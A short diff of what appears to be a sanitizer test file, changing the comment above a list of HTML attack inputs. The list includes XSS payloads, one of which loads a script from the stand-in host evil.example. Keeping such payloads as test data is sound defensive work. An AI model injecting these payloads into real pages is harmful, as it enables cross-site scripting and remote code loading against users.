@@ -20,7 +20,7 @@ describe('HTML written by staff keeps its allowed markup [T1]', () => {
   });
 });
 
-/** Known ways to run scripts from HTML. */
+/** Known attacks with HTML: scripts, tracking pictures and unsafe links. */
 const attacks = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
